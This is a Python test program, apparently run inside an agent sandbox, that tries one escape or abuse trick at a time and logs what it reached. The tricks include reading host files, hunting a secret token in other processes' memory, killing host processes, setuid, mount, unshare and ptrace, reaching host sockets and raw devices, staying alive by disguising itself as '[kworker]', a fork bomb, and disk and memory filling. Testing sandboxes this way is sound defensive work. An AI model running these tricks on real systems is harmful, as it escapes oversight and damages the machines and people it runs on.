"""A program that an agent starts: it tries tricks and writes down what it reached. Standard library only.

    python hostile.py TRICK...      beside it lies targets.json: what the test wants to know about

Each trick is tried by itself; `reached` is what it got, and empty when it failed.
"""

import ctypes
import fcntl
import json
import os
import resource
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

HERE = Path(__file__).resolve().parent
RUN = HERE.parent
TARGETS = json.loads((HERE / "targets.json").read_text())


def read(key):
    """The beginning of a file."""
    return Path(TARGETS[key]).read_bytes()[:300].decode("utf-8", "replace")


def append(key):
    """Open a file for writing at its end, and write nothing."""
    os.close(os.open(TARGETS[key], os.O_WRONLY | os.O_APPEND))
    return f"{TARGETS[key]} can be written"


def create(key):
    """Make a file in a folder, and take it away."""
    path = Path(TARGETS[key]) / "made-by-an-attack"
    path.touch()
    path.unlink()
    return f"{path} was made"


def exists(key):
    return TARGETS[key] if os.path.lexists(TARGETS[key]) else ""


def environment(_):
    """The token in the agent's own variables."""
    return "".join(f"{name}={value}" for name, value in os.environ.items() if TARGETS["token"] in value)


def environments(_):
    """The token in the variables or the command line of any process that can be seen."""
    found = []
    for name in ("environ", "cmdline"):
        for path in Path("/proc").glob(f"[0-9]*/{name}"):
            try:
                if TARGETS["token"].encode() in path.read_bytes():
                    found.append(str(path))
            except OSError:
                continue
    return " ".join(found)


def processes(_):
    """Processes of the host: one that we know to live there, by its words, as its number may be another one's here."""
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            words = path.read_bytes()
        except OSError:
            continue
        if TARGETS["words of the victim"].encode() in words.replace(b"\0", b" "):
            found.append(path.parent.name)
    return " ".join(found)


def kill(key):
    os.kill(int(TARGETS[key]), signal.SIGKILL)
    return "killed"


def descriptors(_):
    """What was left open by those who started us."""
    with os.scandir("/proc/self/fd") as entries:
        names = [
            str(Path(entry.path).readlink())
            for entry in entries
            if int(entry.name) > 2 and os.path.lexists(entry.path)
        ]
    return " ".join(name for name in names if "/proc/" not in name)


def become_root(_):
    os.setuid(0)
    return f"user {os.geteuid()}" if os.geteuid() == 0 else ""


def mount(_):
    done = ctypes.CDLL(None, use_errno=True).mount(b"none", b"/mnt", b"tmpfs", 0, None)
    return "mounted" if done == 0 else ""


def new_user_namespace(_):
    done = ctypes.CDLL(None, use_errno=True).unshare(0x10000000)
    return "a user namespace of its own, with all rights in it" if done == 0 else ""


def trace(_):
    """Attach to process 1."""
    return "attached" if ctypes.CDLL(None, use_errno=True).ptrace(16, 1, 0, 0) == 0 else ""


def connect(key):
    """Reach a server of the host: a port of its loopback, an abstract or a named unix socket."""
    where = TARGETS[key]
    if isinstance(where, int):
        with socket.create_connection(("127.0.0.1", where), 3):
            return f"port {where}"
    with socket.socket(socket.AF_UNIX) as client:
        if where.startswith("@"):
            client.connect(where.replace("@", "\0", 1))
        else:
            folder = os.open(Path(where).parent, os.O_PATH)  # a path of any length
            try:
                client.connect(f"/proc/self/fd/{folder}/{Path(where).name}")
            finally:
                os.close(folder)
        return where


def devices(_):
    """Devices that show or change the machine."""
    found = []
    for name in (
        "mem",
        "kmem",
        "port",
        "kmsg",
        "vda",
        "sda",
        "nvme0n1",
        "fuse",
        "kvm",
        "tty",
        "input/event0",
    ):
        try:
            os.close(os.open(f"/dev/{name}", os.O_RDONLY | os.O_NONBLOCK))
            found.append(name)
        except OSError:
            continue
    return " ".join(found)


def link(key):
    """A second name for a file of the host, inside of what the agent owns."""
    os.link(TARGETS[key], RUN / "tmp" / "second-name")
    return "linked"


# --- staying alive


def survive(way):
    """Leave a process behind that holds a lock for as long as it lives."""
    file = RUN / "out" / f"alive-{way}"
    if os.fork():
        while not file.exists():
            time.sleep(0.005)
        return "started"
    for signum in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(signum, signal.SIG_IGN)
    if way != "child":
        os.setsid()
    if way in {"double-fork", "renamed"} and os.fork():
        os._exit(0)
    if way == "renamed":
        os.environ.clear()
        hold = f"import fcntl,time; f=open({str(file)!r},'w'); fcntl.lockf(f,2); time.sleep(999)"
        null = os.open(os.devnull, os.O_RDWR)
        for descriptor in (0, 1, 2):
            os.dup2(null, descriptor)
        os.execve(sys.executable, ["[kworker]", "-I", "-S", "-c", hold], {})
    held = file.open("w")
    fcntl.lockf(held, fcntl.LOCK_EX)
    time.sleep(999)
    return ""


def fork_bomb(most):
    """Fork until it is refused."""
    made = 0
    while made < int(most):
        try:
            if os.fork() == 0:
                time.sleep(999)
        except OSError:
            return ""
        made += 1
    return f"{made} processes"


# --- filling


def memory(megabytes):
    block = bytearray(int(megabytes) * 1_000_000)
    block[:: resource.getpagesize()] = b"x" * len(block[:: resource.getpagesize()])
    return f"{len(block)} bytes"


def big_file(megabytes):
    with (RUN / "tmp" / "big").open("wb") as file:
        file.truncate(int(megabytes) * 1_000_000)
    return f"{megabytes} MB in one file"


def fill_disk(wanted):
    """Many files, each of them small, that stay for a while: `megabytes:seconds`."""
    megabytes, seconds = map(int, wanted.split(":"))
    for number in range(megabytes * 20):
        (RUN / "tmp" / f"small-{number}").write_bytes(bytes(50_000))
    time.sleep(seconds)
    return f"{megabytes} MB in many files"


def long_line(megabytes):
    """One line without an end on stdout."""
    piece = b"x" * 1_000_000
    for _ in range(int(megabytes)):
        os.write(1, piece)
    return ""


def many_lines(megabytes):
    for _ in range(int(megabytes)):
        os.write(1, b"\x1b[31m0123456789\n" * 66_000)
    return ""


def deep_tree(levels):
    """Folders in folders, deeper than a path may be long."""
    for _ in range(int(levels)):
        Path("d" * 20).mkdir()
        os.chdir("d" * 20)
    return ""


def shell(command):
    return subprocess.run(
        command, shell=True, capture_output=True, text=True, check=False, timeout=20
    ).stdout.strip()


def main():
    loot = RUN / "out" / "loot.json"
    told = {}
    for word in sys.argv[1:]:
        name, _, argument = word.partition(":")
        told[word] = {"tried": True, "reached": "", "error": ""}
        loot.write_text(json.dumps(told))
        try:
            told[word]["reached"] = globals()[name](argument)
        except (OSError, MemoryError, ValueError, subprocess.SubprocessError) as error:
            told[word]["error"] = f"{type(error).__name__}: {error}"
        loot.write_text(json.dumps(told))


if __name__ == "__main__":
    main()
